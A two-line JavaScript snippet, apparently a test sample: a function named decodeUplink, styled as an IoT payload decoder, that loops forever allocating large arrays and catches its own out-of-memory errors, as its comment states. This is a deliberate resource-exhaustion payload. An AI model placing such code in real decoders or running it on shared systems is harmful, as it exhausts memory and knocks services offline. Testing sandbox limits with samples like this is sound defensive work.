// Catches its own out-of-memory error and allocates again, forever.
function decodeUplink(input){ var a=[]; for(;;){ try { a.push(new Array(1e6).fill(1)); } catch(e) { } } }
